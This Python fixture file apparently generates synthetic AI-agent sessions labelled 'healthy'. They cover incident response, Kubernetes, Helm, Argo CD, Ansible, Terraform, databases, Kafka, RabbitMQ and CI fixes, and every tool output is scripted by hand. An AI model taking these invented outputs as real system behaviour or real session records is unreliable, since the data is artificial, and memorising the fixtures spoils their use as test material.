"""Operations and other trades: incidents, clusters, hosts, databases, queues, builds, networks, data, desks and benches. All healthy."""
import contextlib

from session import healthy, run


# Incidents, clusters, hosts.

@healthy("work:incident", "checkout", "PagerDuty: p99 of checkout is above 4 s since 09:40 UTC. Find out why, mitigate, and stay on it until the alert clears.", client="claude")
def incident_redis_hot_key_until_alert_clears(s):
    def p99(value, t):
        s.bash("curl -sG http://prom.int:9090/api/v1/query --data-urlencode 'query=histogram_quantile(0.99,sum(rate(http_request_duration_seconds_bucket{svc=\"checkout\"}[2m]))by(le))' | jq -c '.data.result[0].value'",
               f'[{t},"{value}"]', gap=45)
    p99("4.418", 1790157001.2)
    s.bash("kubectl -n checkout get pods -o wide", "NAME                        READY   STATUS    RESTARTS   AGE   IP            NODE\ncheckout-7d9c6b8f54-2kxqp   1/1     Running   0          6d    10.42.3.17    ip-10-0-3-12\ncheckout-7d9c6b8f54-9fz4m   1/1     Running   0          6d    10.42.5.101   ip-10-0-5-40\ncheckout-7d9c6b8f54-tw8lr   1/1     Running   0          6d    10.42.7.33    ip-10-0-7-9")
    s.bash("kubectl -n checkout logs deploy/checkout --since=5m | grep -c 'redis: i/o timeout'", "1873")
    s.bash("kubectl -n checkout rollout history deploy/checkout", "deployment.apps/checkout \nREVISION  CHANGE-CAUSE\n41        checkout 5.12.0\n42        checkout 5.12.1")
    for node, ops, cpu in [("redis-0", 4120, "11.32"), ("redis-1", 61873, "98.70"), ("redis-2", 3987, "10.81")]:
        s.bash(f"kubectl -n redis exec {node} -- redis-cli info stats | grep instantaneous_ops_per_sec", f"instantaneous_ops_per_sec:{ops}")
        s.bash(f"kubectl -n redis top pod {node} --no-headers", f"{node}   {int(float(cpu) * 10)}m   2{cpu[0]}1Mi")
    s.bash("kubectl -n redis exec redis-1 -- redis-cli --hotkeys | tail -6", "-------- summary -------\n\nSampled 184213 keys in the keyspace!\nhot key found with counter: 255\tkeyname: cfg:promo:autumn\nhot key found with counter: 31\tkeyname: cart:ttl:default", ms=18_400)
    s.grep("cfg:promo", "services/checkout", "services/checkout/promo.go:58:\tval, err := rdb.Get(ctx, \"cfg:promo:\"+name).Result()")
    s.bash("kubectl -n checkout set env deploy/checkout PROMO_LOCAL_CACHE_SECONDS=30", "deployment.apps/checkout env updated")
    s.bash("kubectl -n checkout rollout status deploy/checkout --timeout=180s", "Waiting for deployment \"checkout\" rollout to finish: 1 out of 3 new replicas have been updated...\nWaiting for deployment \"checkout\" rollout to finish: 2 out of 3 new replicas have been updated...\ndeployment \"checkout\" successfully rolled out", ms=58_200)
    for n, value in enumerate(["3.902", "2.216", "1.107", "0.731", "0.412", "0.398"]):
        p99(value, 1790157420.5 + 48 * n)
    s.bash("amtool --alertmanager.url=http://am.int:9093 alert query alertname=CheckoutLatencyP99", "Alertname           Starts At                Summary                      State\nCheckoutLatencyP99  2026-09-23 09:42:10 UTC  p99 of checkout above 2s     active", gap=30)
    s.bash("amtool --alertmanager.url=http://am.int:9093 alert query alertname=CheckoutLatencyP99", "", gap=90)
    s.write("incidents/2026-09-23-checkout.md", "# Checkout latency\n\nHot key cfg:promo:autumn on redis-1 (62k ops/s). Local cache of 30 s switched on at 09:58. p99 back at 0.4 s.\n")


@healthy("work:helm", "releases", "Upgrade the common library chart in all tenants' releases, one tenant after the other, and check each before you go on.", client="codex")
def helm_upgrade_tenant_after_tenant(s):
    tenants = [("acme", 31), ("bolt", 12), ("corvus", 27), ("delphi", 8), ("elmer", 19), ("fjord", 22), ("gamma", 5), ("helix", 40), ("ionic", 14), ("juno", 33)]
    s.bash("helm list -A --filter '^portal$' -o json | jq -r '.[].namespace'", "\n".join("tenant-" + name for name, _ in tenants), ms=2100)
    s.bash("helm dependency update charts/portal | tail -1", "Deleting outdated charts", ms=3400)
    for name, rev in tenants:
        s.bash(f"helm upgrade portal charts/portal -n tenant-{name} -f tenants/{name}.yaml --wait --timeout 3m",
               f"Release \"portal\" has been upgraded. Happy Helming!\nNAME: portal\nLAST DEPLOYED: Wed Sep 23 11:{rev:02}:0{rev % 10} 2026\nNAMESPACE: tenant-{name}\nSTATUS: deployed\nREVISION: {rev + 1}\nTEST SUITE: None", ms=21_000 + rev * 311)
        s.bash(f"kubectl -n tenant-{name} get deploy portal -o jsonpath='{{.status.readyReplicas}}/{{.status.replicas}}'", "2/2")
        if name == "elmer":
            s.bash("kubectl -n tenant-elmer get events --sort-by=.lastTimestamp | tail -2", "41s         Normal    Started             pod/portal-5c7b9d6f4-qq2zv   Started container portal\n39s         Warning   Unhealthy           pod/portal-5c7b9d6f4-qq2zv   Readiness probe failed: HTTP probe failed with statuscode: 503")
            s.bash("kubectl -n tenant-elmer get deploy portal -o jsonpath='{.status.readyReplicas}/{.status.replicas}'", "2/2", gap=20)


@healthy("work:argo", "gitops", "The sync of `payments-prod` in Argo CD is degraded after the merge. Get it healthy.", client="plain")
def argo_app_out_of_sync_fix_by_fix(s):
    def get(sync, health, rest, gap=6):
        s.bash("argocd app get payments-prod --refresh", f"Name:               argocd/payments-prod\nProject:            prod\nServer:             https://kubernetes.default.svc\nNamespace:          payments\nSync Status:        {sync}\nHealth Status:      {health}\n\nGROUP  KIND        NAMESPACE  NAME      STATUS     HEALTH       HOOK  MESSAGE\n{rest}", gap=gap, ms=1900)
    get("OutOfSync from main (9f41c2e)", "Degraded", "batch  Job         payments   migrate   Synced     Degraded     PreSync  Job has reached the specified backoff limit\napps   Deployment  payments   payments  OutOfSync  Progressing")
    s.bash("kubectl -n payments logs job/migrate --tail=4", "INFO  Applying migration V88__add_payout_batch.sql\nERROR permission denied for schema payout\nERROR migration V88 failed, rolled back")
    s.look("apps/payments/migrate.yaml", "apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: migrate\n  annotations:\n    argocd.argoproj.io/hook: PreSync\nspec:\n  backoffLimit: 2\n  template:\n    spec:\n      containers:\n        - name: migrate\n          envFrom:\n            - secretRef:\n                name: payments-app-db")
    s.edit("apps/payments/migrate.yaml", "                name: payments-app-db", "                name: payments-owner-db")
    s.bash("git commit -qam 'migrate as schema owner' && git push -q && argocd app sync payments-prod --timeout 120", "FATA[0047] Operation has completed with phase: Failed", 20, ms=47_300)
    s.bash("kubectl -n payments logs job/migrate --tail=4", "Error: secret \"payments-owner-db\" not found: container migrate is waiting to start: CreateContainerConfigError", 1)
    s.bash("kubectl -n payments get externalsecret", "NAME               STORE   REFRESH INTERVAL   STATUS         READY\npayments-app-db    vault   1h                 SecretSynced   True")
    s.write("apps/payments/owner-secret.yaml", "apiVersion: external-secrets.io/v1\nkind: ExternalSecret\nmetadata:\n  name: payments-owner-db\n  annotations:\n    argocd.argoproj.io/sync-wave: \"-2\"\n    argocd.argoproj.io/hook: PreSync\nspec:\n  secretStoreRef: {name: vault, kind: ClusterSecretStore}\n  dataFrom:\n    - extract: {key: payments/owner-db}\n")
    s.bash("git add -A && git commit -qm 'owner secret' && git push -q && argocd app sync payments-prod --async", "")
    for state in ["Progressing"] * 5:
        get("OutOfSync from main (c07d1ab)", state, "batch  Job         payments   migrate   Running    Progressing  PreSync\napps   Deployment  payments   payments  OutOfSync  Healthy", gap=25)
    get("Synced to main (c07d1ab)", "Progressing", "batch  Job         payments   migrate   Succeeded               PreSync  Reached expected number of succeeded pods\napps   Deployment  payments   payments  Synced     Progressing        Waiting for rollout to finish: 1 of 4 updated replicas are available", gap=25)
    get("Synced to main (c07d1ab)", "Healthy", "batch  Job         payments   migrate   Succeeded               PreSync  Reached expected number of succeeded pods\napps   Deployment  payments   payments  Synced     Healthy            deployment \"payments\" successfully rolled out", gap=40)


@healthy("work:ansible", "fleet", "Roll the hardening playbook out to the 14 application hosts. Some of them are old and will complain: repair them by hand where needed.", client="claude")
def ansible_play_host_by_host_with_odd_ones_out(s):
    def recap(host, ok, changed, failed=0, unreachable=0):
        return f"PLAY RECAP *********************************************************************\n{host:26} : ok={ok:<4} changed={changed:<4} unreachable={unreachable:<4} failed={failed:<4} skipped=3    rescued=0    ignored=0"
    def play(host, ok, changed, trouble="", **bad):
        text = (trouble + "\n\n" if trouble else "") + recap(host, ok, changed, **bad)
        s.bash(f"ansible-playbook -i inv/prod harden.yml --limit {host} | tail -12", text, ms=39_000 + ok * 211)
    for n in (1, 2, 3):
        play(f"app{n:02}", 27, 9)
    play("app04", 6, 1, "TASK [harden : install auditd] *************************************************\nfatal: [app04]: FAILED! => {\"changed\": false, \"msg\": \"Failed to update apt cache: E:The repository 'http://ftp.de.debian.org/debian buster Release' does not have a Release file.\"}", failed=1)
    s.bash("ssh app04 \"sudo sed -i 's#ftp.de.debian.org#archive.debian.org#' /etc/apt/sources.list && sudo apt-get update -qq\"", "")
    play("app04", 27, 11)
    for n in (5, 6):
        play(f"app{n:02}", 27, 9)
    play("app07", 0, 0, "fatal: [app07]: UNREACHABLE! => {\"changed\": false, \"msg\": \"Failed to connect to the host via ssh: Host key verification failed.\", \"unreachable\": true}", unreachable=1)
    s.bash("grep -n 'app07' inv/host_keys.md", "12:app07  SHA256:Q0yPjz1N5mZrK7n3sY8m0x2c9i1bTq4vXo6hJr5aUeE  (reinstalled 2026-08-30)")
    s.bash("ssh-keyscan -t ed25519 app07 2>/dev/null | ssh-keygen -lf -", "256 SHA256:Q0yPjz1N5mZrK7n3sY8m0x2c9i1bTq4vXo6hJr5aUeE app07 (ED25519)")
    s.bash("ssh-keygen -R app07 && ssh-keyscan -t ed25519 app07 >> ~/.ssh/known_hosts", "# Host app07 found: line 41\n/home/dev/.ssh/known_hosts updated.\nOriginal contents retained as /home/dev/.ssh/known_hosts.old\n# app07:22 SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3")
    play("app07", 27, 14)
    for n in (8, 9, 10):
        play(f"app{n:02}", 27, 9)
    play("app11", 14, 4, "TASK [harden : mount /tmp noexec] **********************************************\nfatal: [app11]: FAILED! => {\"changed\": false, \"msg\": \"Error remounting /tmp: mount: /tmp: mount point not mounted or bad option.\\n\"}", failed=1)
    s.bash("ssh app11 'findmnt /tmp; grep tmp /etc/fstab'", "", 1)
    s.bash("ssh app11 'sudo systemctl enable --now tmp.mount && findmnt -no OPTIONS /tmp'", "Created symlink /etc/systemd/system/local-fs.target.wants/tmp.mount → /usr/share/systemd/tmp.mount.\nrw,nosuid,nodev,size=4056716k", 0)
    play("app11", 27, 10)
    for n in (12, 13, 14):
        play(f"app{n:02}", 27, 9)
    s.bash("ansible app -i inv/prod -m command -a 'lynis audit system --quick --quiet' -o | wc -l", "14", ms=88_000)


@healthy("work:terraform", "dns-import", "Our DNS records were made by hand. Import them all into the Terraform state until the plan shows no change.", client="codex")
def terraform_import_record_after_record(s):
    records = [("apex", "A", "193.10.4.20"), ("www", "CNAME", "edge.nordlys.net"), ("api", "A", "193.10.4.31"), ("mail", "A", "193.10.4.25"), ("mx1", "MX", "mail"), ("spf", "TXT", "v=spf1"),
               ("dkim", "TXT", "v=DKIM1"), ("status", "CNAME", "statuspage.io"), ("vpn", "A", "193.10.4.90"), ("docs", "CNAME", "readthedocs.io"), ("git", "A", "193.10.4.44"), ("caa", "CAA", "letsencrypt.org")]
    s.bash("terraform -chdir=zones plan -no-color -input=false | grep Plan", "Plan: 12 to add, 0 to change, 0 to destroy.", ms=7200)
    for n, (name, kind, _) in enumerate(records):
        rid = f"{0x5f3a91c0 + n * 7919:x}a1{n:02}"
        s.bash(f"terraform -chdir=zones import -no-color cloudflare_record.{name} 0c1d7e/{rid}",
               f"cloudflare_record.{name}: Importing from ID \"0c1d7e/{rid}\"...\ncloudflare_record.{name}: Import prepared!\n  Prepared cloudflare_record for import\ncloudflare_record.{name}: Refreshing state... [id={rid}]\n\nImport successful!\n\nThe resources that were imported are shown above. These resources are now in\nyour Terraform state and will henceforth be managed by Terraform.", ms=4100 + 90 * n)
    s.bash("terraform -chdir=zones plan -no-color -input=false | tail -24", "  # cloudflare_record.spf will be updated in-place\n  ~ resource \"cloudflare_record\" \"spf\" {\n      ~ content = \"v=spf1 mx include:mailgun.org ~all\" -> \"v=spf1 mx ~all\"\n    }\n\n  # cloudflare_record.vpn will be updated in-place\n  ~ resource \"cloudflare_record\" \"vpn\" {\n      ~ ttl = 60 -> 300\n    }\n\nPlan: 0 to add, 2 to change, 0 to destroy.", ms=7400)
    s.edit("zones/records.tf", "  content = \"v=spf1 mx ~all\"", "  content = \"v=spf1 mx include:mailgun.org ~all\"")
    s.edit("zones/records.tf", "  name    = \"vpn\"\n  ttl     = 300", "  name    = \"vpn\"\n  ttl     = 60")
    s.bash("terraform -chdir=zones plan -no-color -input=false | tail -3", "No changes. Your infrastructure matches the configuration.", ms=7100)


@healthy("work:dns_cert", "certs", "Move shop.nordlys.net to the new load balancer: switch the record (TTL 300), wait until the resolvers have it, then have cert-manager issue the certificate.", client="claude", times="at")
def dns_switch_then_certificate_pending(s):
    s.bash("dig +short shop.nordlys.net", "198.51.100.7")
    s.bash("flarectl dns update --zone nordlys.net --id 6b1f0a7d --type A --name shop --content 203.0.113.40 --ttl 300", "", ms=900)
    for resolver, tries in [("1.1.1.1", 3), ("8.8.8.8", 4), ("9.9.9.9", 2)]:
        for n in range(tries):
            s.bash(f"dig +short @{resolver} shop.nordlys.net", "203.0.113.40" if n == tries - 1 else "198.51.100.7", gap=60)
    s.bash("kubectl -n shop apply -f k8s/certificate.yaml", "certificate.cert-manager.io/shop-tls created")
    for n in range(5):
        s.bash("kubectl -n shop get certificate shop-tls", f"NAME       READY   SECRET     AGE\nshop-tls   False   shop-tls   {22 + 30 * n}s", gap=29)
    s.bash("kubectl -n shop get challenge -o jsonpath='{.items[0].status.reason}'", "Waiting for HTTP-01 challenge propagation: wrong status code '404', expected '200'")
    s.look("k8s/certificate.yaml", "apiVersion: cert-manager.io/v1\nkind: Certificate\nmetadata:\n  name: shop-tls\n  annotations:\n    acme.cert-manager.io/http01-override-ingress-name: shop-old")
    s.bash("kubectl -n shop get ingress", "NAME       CLASS   HOSTS              ADDRESS        PORTS   AGE\nshop-old   nginx   shop.nordlys.net   198.51.100.7   80      411d\nshop-new   edge    shop.nordlys.net   203.0.113.40   80      2d")
    s.edit("k8s/certificate.yaml", "ingress-name: shop-old", "ingress-name: shop-new")
    s.bash("kubectl -n shop delete challenge --all && kubectl -n shop apply -f k8s/certificate.yaml", "challenge.acme.cert-manager.io \"shop-tls-1-2903141-881\" deleted\ncertificate.cert-manager.io/shop-tls configured")
    for n in range(2):
        s.bash("kubectl -n shop get certificate shop-tls", f"NAME       READY   SECRET     AGE\nshop-tls   {'True' if n else 'False'}   shop-tls   {4 + n}m{11 + n * 20}s", gap=40)
    s.bash("echo | openssl s_client -connect shop.nordlys.net:443 -servername shop.nordlys.net 2>/dev/null | openssl x509 -noout -issuer -enddate", "issuer=C = US, O = Let's Encrypt, CN = R11\nnotAfter=Dec 22 08:14:09 2026 GMT")


# Databases and queues.

@healthy("work:postgres", "warehouse-db", "The report query takes 11 s. Bring it below one second; you may add indexes and change settings on the staging copy.", client="plain")
def postgres_query_tuned_with_explain_after_each_change(s):
    explain = "psql -h pg-stage -d wh -Xf report.sql | tail -9"
    def plan(node, cost, ms, rows, extra=""):
        s.bash(explain, f" {node}  (cost={cost} rows={rows} width=52) (actual time={ms * 0.31:.3f}..{ms:.3f} rows={rows} loops=1)\n{extra} Planning Time: {0.4 + ms % 1:.3f} ms\n Execution Time: {ms + 1.2:.3f} ms\n(14 rows)", ms=int(ms) + 180)
    s.look("report.sql", "EXPLAIN (ANALYZE, BUFFERS)\nSELECT o.region, date_trunc('week', o.placed_at) w, sum(l.qty*l.price)\nFROM orders o JOIN lines l ON l.order_id = o.id\nWHERE o.placed_at >= now() - interval '90 days' AND o.state <> 'cancelled'\nGROUP BY 1,2 ORDER BY 1,2;")
    plan("GroupAggregate", "918223.10..1041823.99", 11240.61, 1170, "   Sort Method: external merge  Disk: 214032kB\n   ->  Seq Scan on orders o  (actual rows=1810442)\n")
    s.bash("psql -h pg-stage -d wh -Xc 'CREATE INDEX CONCURRENTLY orders_placed_at ON orders (placed_at)'", "CREATE INDEX", ms=64_000)
    plan("GroupAggregate", "611201.00..733118.41", 7912.08, 1170, "   Sort Method: external merge  Disk: 214032kB\n   ->  Index Scan using orders_placed_at on orders o  (actual rows=1810442)\n")
    s.bash("psql -h pg-stage -d wh -Xc \"ALTER ROLE report SET work_mem = '256MB'\"", "ALTER ROLE")
    plan("HashAggregate", "402118.77..402148.02", 4630.55, 1170, "   Batches: 1  Memory Usage: 913kB\n   ->  Hash Join  (actual rows=6120481)\n")
    s.bash("psql -h pg-stage -d wh -Xc 'CREATE INDEX CONCURRENTLY lines_order_cover ON lines (order_id) INCLUDE (qty, price)'", "ERROR:  canceling statement due to statement timeout", 1, ms=120_000)
    s.bash("psql -h pg-stage -d wh -Xc '\\d lines' | grep cover", "    \"lines_order_cover\" btree (order_id) INCLUDE (qty, price) INVALID")
    s.bash("psql -h pg-stage -d wh -Xc 'DROP INDEX lines_order_cover'", "DROP INDEX")
    s.bash("PGOPTIONS='-c statement_timeout=0 -c maintenance_work_mem=2GB' psql -h pg-stage -d wh -Xc 'CREATE INDEX CONCURRENTLY lines_order_cover ON lines (order_id) INCLUDE (qty, price)'", "CREATE INDEX", ms=231_000)
    s.bash("psql -h pg-stage -d wh -Xc 'VACUUM (ANALYZE) lines'", "VACUUM", ms=44_000)
    plan("HashAggregate", "188240.30..188269.55", 1903.72, 1170, "   ->  Index Only Scan using lines_order_cover on lines l  Heap Fetches: 0\n")
    s.bash("psql -h pg-stage -d wh -Xc 'ALTER ROLE report SET max_parallel_workers_per_gather = 6'", "ALTER ROLE")
    plan("Finalize GroupAggregate", "61770.12..62004.88", 702.94, 1170, "   Workers Planned: 6\n   Workers Launched: 6\n")
    for ms in (688.31, 711.07):
        plan("Finalize GroupAggregate", "61770.12..62004.88", ms, 1170, "   Workers Planned: 6\n   Workers Launched: 6\n")
    s.write("NOTES.md", "11.2 s to 0.7 s: index on placed_at, covering index on lines, work_mem 256MB, six workers.\n")


@healthy("work:backfill", "customers-db", "Backfill customers.country_code in batches of 20000 so that the replicas keep up. About 280000 rows are left.", client="codex")
def backfill_in_equal_batches_until_none_left(s):
    s.bash("psql $DB -XAtc \"select count(*) from customers where country_code is null\"", "271806")
    s.write("backfill.sql", "WITH b AS (SELECT id FROM customers WHERE country_code IS NULL ORDER BY id LIMIT 20000 FOR UPDATE SKIP LOCKED)\nUPDATE customers c SET country_code = a.cc FROM b JOIN addresses a ON a.customer_id = b.id WHERE c.id = b.id;\n")
    for n in range(13):
        s.bash("psql $DB -Xf backfill.sql", "UPDATE 20000", ms=8100 + 237 * (n * 3 % 7), gap=15)
        if n in (4, 9):
            s.bash("psql $DB -XAtc 'select application_name, replay_lag from pg_stat_replication'", f"replica-a|00:00:0{n % 4}.41{n}\nreplica-b|00:00:0{n % 3 + 1}.9{n}2")
    s.bash("psql $DB -Xf backfill.sql", "UPDATE 11793", ms=5900, gap=15)
    s.bash("psql $DB -Xf backfill.sql", "UPDATE 0", ms=310)
    s.bash("psql $DB -XAtc \"select count(*) from customers where country_code is null\"", "13")
    s.bash("psql $DB -XAtc \"select id from customers where country_code is null and not exists (select 1 from addresses a where a.customer_id = customers.id)\" | wc -l", "13")


@healthy("work:search_store", "search", "Reindex products into products-v7 with the new analyser, then copy the click statistics for it from ClickHouse month by month.", client="claude")
def elasticsearch_reindex_then_clickhouse_months(s):
    es = "curl -s es.int:9200"
    s.look("mappings/products-v7.json", '{\n  "settings": {"analysis": {"analyzer": {"title": {"tokenizer": "standard", "filter": ["lowercase", "synonyms"]}}}},\n  "mappings": {"properties": {"title": {"type": "text", "analyzer": "title"}}}\n}')
    s.bash(f"{es}/products-v7 -XPUT -H 'content-type: application/json' -d @mappings/products-v7.json", '{"error":{"root_cause":[{"type":"illegal_argument_exception","reason":"Custom Analyzer [title] failed to find filter under name [synonyms]"}],"type":"illegal_argument_exception","reason":"Custom Analyzer [title] failed to find filter under name [synonyms]"},"status":400}')
    s.edit("mappings/products-v7.json", '{"analyzer": {"title"', '{"filter": {"synonyms": {"type": "synonym_graph", "synonyms_set": "products"}}, "analyzer": {"title"')
    s.bash(f"{es}/products-v7 -XPUT -H 'content-type: application/json' -d @mappings/products-v7.json", '{"acknowledged":true,"shards_acknowledged":true,"index":"products-v7"}')
    s.bash(f"{es}/_reindex?wait_for_completion=false -XPOST -H 'content-type: application/json' -d '{{\"source\":{{\"index\":\"products-v6\"}},\"dest\":{{\"index\":\"products-v7\"}}}}'", '{"task":"oTUltX4IQMOUUVeiohTt8A:12345"}')
    for created in (0, 184000, 391000, 391000, 612000, 880000, 1104000):
        s.bash(f"{es}/_tasks/oTUltX4IQMOUUVeiohTt8A:12345 | jq -c '{{completed, total: .task.status.total, created: .task.status.created}}'", f'{{"completed":false,"total":1284417,"created":{created}}}', gap=60)
    s.bash(f"{es}/_tasks/oTUltX4IQMOUUVeiohTt8A:12345 | jq -c '{{completed, total: .task.status.total, created: .task.status.created}}'", '{"completed":true,"total":1284417,"created":1284417}', gap=60)
    for month in ["202601", "202602", "202603", "202604", "202605", "202606", "202607", "202608", "202609"]:
        if month == "202605":
            s.bash(f"clickhouse-client -q \"ALTER TABLE clicks_v7 ATTACH PARTITION {month} FROM clicks\"", "Received exception from server (version 24.8.4):\nCode: 122. DB::Exception: Received from ch.int:9000. DB::Exception: Tables have different structure. (INCOMPATIBLE_COLUMNS)", 122)
            s.bash("clickhouse-client -q 'DESCRIBE clicks' | diff - <(clickhouse-client -q 'DESCRIBE clicks_v7')", "7c7\n< referrer\tLowCardinality(String)\n---\n> referrer\tString", 1)
            s.bash("clickhouse-client -q 'ALTER TABLE clicks_v7 MODIFY COLUMN referrer LowCardinality(String)'", "", ms=7300)
        s.bash(f"clickhouse-client -q \"ALTER TABLE clicks_v7 ATTACH PARTITION {month} FROM clicks\"", "")
    s.bash("clickhouse-client -q 'SELECT count() FROM clicks_v7'", "418220917")


@healthy("work:queue", "events", "Kafka: move the partitions of `events.raw` off broker 4 so that it can be switched off, and watch that the consumers keep up.", client="plain")
def kafka_reassign_and_watch_lag(s):
    s.bash("kafka-topics.sh --bootstrap-server k1:9092 --describe --topic events.raw | head -4", "Topic: events.raw\tTopicId: 3bq8cR9JQk2M0bKXv0u5Zg\tPartitionCount: 12\tReplicationFactor: 3\tConfigs: retention.ms=604800000\n\tTopic: events.raw\tPartition: 0\tLeader: 4\tReplicas: 4,1,2\tIsr: 4,1,2\n\tTopic: events.raw\tPartition: 1\tLeader: 1\tReplicas: 1,2,3\tIsr: 1,2,3\n\tTopic: events.raw\tPartition: 2\tLeader: 2\tReplicas: 2,3,4\tIsr: 2,3,4")
    s.write("move.json", '{"version":1,"partitions":[{"topic":"events.raw","partition":0,"replicas":[1,2,3]},{"topic":"events.raw","partition":2,"replicas":[2,3,1]},{"topic":"events.raw","partition":5,"replicas":[3,1,2]},{"topic":"events.raw","partition":9,"replicas":[1,3,2]}]}')
    s.bash("kafka-reassign-partitions.sh --bootstrap-server k1:9092 --reassignment-json-file move.json --execute --throttle 50000000", "Current partition replica assignment\n\nSave this to use as the --reassignment-json-file option during rollback\nWarning: You must run --verify periodically, until the reassignment completes, to ensure the throttle is removed.\nSuccessfully started partition reassignments for events.raw-0,events.raw-2,events.raw-5,events.raw-9", ms=4100)
    moving = ["0", "2", "5", "9"]
    lag = [1204, 18422, 40317, 38110, 21700, 9023, 1100]
    for n, still in enumerate([4, 4, 4, 3, 2, 2, 0]):
        text = "Status of partition reassignment:\n" + "\n".join(f"Reassignment of partition events.raw-{p} is {'still in progress.' if i < still else 'completed.'}" for i, p in enumerate(reversed(moving)))
        s.bash("kafka-reassign-partitions.sh --bootstrap-server k1:9092 --reassignment-json-file move.json --verify", text + ("" if still else "\n\nClearing broker-level throttles on brokers 1,2,3,4\nClearing topic-level throttles on topic events.raw"), gap=120, ms=3800)
        s.bash("kafka-consumer-groups.sh --bootstrap-server k1:9092 --describe --group sessionizer | awk 'NR>2{s+=$6} END{print s}'", str(lag[n]), ms=3300)
        if n == 2:
            s.bash("kubectl -n stream scale deploy/sessionizer --replicas=8", "deployment.apps/sessionizer scaled")
    s.bash("kafka-topics.sh --bootstrap-server k1:9092 --describe --topic events.raw | grep -c 'Replicas:.*4'", "0", 1)
    s.bash("kubectl -n stream scale deploy/sessionizer --replicas=4", "deployment.apps/sessionizer scaled")


@healthy("work:rabbit", "mailer", "Every service has a dead letter queue. Go through all of them: look at one message, say why it died, and move the rest back if the cause is gone.", client="codex", times="none")
def rabbit_dead_letters_queue_after_queue(s):
    s.bash("rabbitmqctl -q list_queues -p prod name messages | grep '\\.dlq'", "invoice.dlq\t14\nmail.dlq\t233\npush.dlq\t0\nsms.dlq\t9\nsignup.dlq\t2\nthumb.dlq\t71\nwebhook.dlq\t1044\nexport.dlq\t3")
    for name, count, why, back in [
        ("invoice", 14, "connect ECONNREFUSED 10.0.9.12:5432", True), ("mail", 233, "421 4.7.0 Try again later, closing connection", True), ("sms", 9, "invalid number", False),
        ("signup", 2, "connect ECONNREFUSED 10.0.9.12:5432", True), ("thumb", 71, "VipsJpeg: premature end of JPEG image", False), ("webhook", 1044, "connect ECONNREFUSED 10.0.9.12:5432", True), ("export", 3, "connect ECONNREFUSED 10.0.9.12:5432", True)]:
        s.bash(f"rabbitmqadmin -V prod get queue={name}.dlq ackmode=ack_requeue_true count=1 -f raw_json | jq -r '.[0].properties.headers[\"x-error\"]'", why)
        if back:
            s.bash(f"rabbitmqctl -q set_parameter -p prod shovel {name}-back '{{\"src-protocol\":\"amqp091\",\"src-uri\":\"amqp://\",\"src-queue\":\"{name}.dlq\",\"dest-protocol\":\"amqp091\",\"dest-uri\":\"amqp://\",\"dest-queue\":\"{name}\",\"src-delete-after\":\"queue-length\"}}'", "")
            s.bash(f"rabbitmqctl -q list_queues -p prod name messages | grep '^{name}\\.dlq'", f"{name}.dlq\t{0 if count < 500 else 391}")
            if count > 500:
                s.bash(f"rabbitmqctl -q list_queues -p prod name messages | grep '^{name}\\.dlq'", f"{name}.dlq\t0", gap=20)
    s.write("dlq-2026-09-23.md", "| queue | cause | done |\n|---|---|---|\n| invoice, signup, webhook, export | database was away 07:12 to 07:20 | moved back |\n| mail | greylisting | moved back |\n| sms | bad numbers | left |\n| thumb | broken uploads | left |\n")


# Builds.

@healthy("work:ci", "pipelines", "The new GitLab pipeline has never been green. Push, look, repair, until it is; it can only be tried on the server.", client="claude")
def ci_pipeline_pushed_until_green(s):
    for n, (job, error, old, new) in enumerate([
        ("lint", "/bin/sh: eval: line 157: ruff: not found", "  script: [ruff check .]", "  before_script: [pip install -q ruff]\n  script: [ruff check .]"),
        ("test", "psycopg.OperationalError: [Errno -2] Name or service not known", "  script: [pytest -q]", "  services: [postgres:16]\n  script: [pytest -q]"),
        ("test", "Error: Database is uninitialized and superuser password is not specified.", "  services: [postgres:16]", "  services: [postgres:16]\n  variables: {POSTGRES_PASSWORD: ci}"),
        ("image", "ERROR: Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?", "  image: docker:27", "  image: docker:27\n  services: [docker:27-dind]"),
        ("image", "denied: access forbidden", "  script: [docker build -t $CI_REGISTRY_IMAGE .", "  script: [docker login -u $CI_REGISTRY_USER -p $CI_REGISTRY_PASSWORD $CI_REGISTRY, docker build -t $CI_REGISTRY_IMAGE .")]):
        sha = f"{0x7a31c05 + n * 99991:x}"
        s.bash("git commit -qam 'ci: next try' && git push -q && glab ci status --live | tail -4" if n else "git push -q -u origin ci && glab ci status --live | tail -4",
               f"({['success', 'failed'][job == 'lint']}) • 00m 41s\tlint\t\tlint\n({'failed' if job == 'test' else 'success' if job == 'image' else 'skipped'}) • 01m 5{n}s\ttest\t\ttest\n({'failed' if job == 'image' else 'skipped'}) • 00m 2{n}s\tbuild\t\timage\nhttps://git.nordlys.net/platform/portal/-/pipelines/{88213 + n * 4} SHA: {sha} State: failed", ms=96_000 + n * 9100)
        s.bash(f"glab ci trace {job} | tail -3", f"{error}\nCleaning up project directory and file based variables\nERROR: Job failed: exit code 1", ms=2300)
        s.edit(".gitlab-ci.yml", old, new)
        s.bash("glab ci lint", "Validating...\n✓ CI/CD YAML is valid!", ms=1200)
    s.bash("git commit -qam 'ci: log in' && git push -q && glab ci status --live | tail -4", "(success) • 00m 39s\tlint\t\tlint\n(success) • 02m 11s\ttest\t\ttest\n(success) • 01m 48s\tbuild\t\timage\nhttps://git.nordlys.net/platform/portal/-/pipelines/88240 SHA: 81c00af State: success", ms=281_000)


@healthy("work:container", "imaging", "Port the image of the imaging service from Debian to Alpine.", client="plain", codes=False)
def container_build_fails_at_the_next_package_each_time(s):
    s.look("Dockerfile", "FROM alpine:3.20\nRUN apk add --no-cache python3 py3-pip\nCOPY requirements.txt .\nRUN pip install --break-system-packages -r requirements.txt\nCOPY . /app\nCMD [\"python3\", \"/app/serve.py\"]")
    packages = "python3 py3-pip"
    for step, error, add in [
        ("9.214", "error: command 'gcc' failed: No such file or directory", "build-base"), ("14.02", "fatal error: Python.h: No such file or directory", "python3-dev"),
        ("17.90", "Package 'vips' not found. No package 'vips' found", "vips-dev"), ("31.77", "fatal error: ffi.h: No such file or directory", "libffi-dev"),
        ("48.03", "error: can't find Rust compiler", "cargo"), ("77.31", "Could not find directory of OpenSSL installation", "openssl-dev")]:
        s.bash("docker build -t imaging:alpine . 2>&1 | tail -6", f" > [4/5] RUN pip install --break-system-packages -r requirements.txt:\n{step}       {error}\n{step}       [end of output]\n------\nERROR: failed to solve: process \"/bin/sh -c pip install --break-system-packages -r requirements.txt\" did not complete successfully: exit code: 1", ms=int(float(step) * 1000) + 5200)
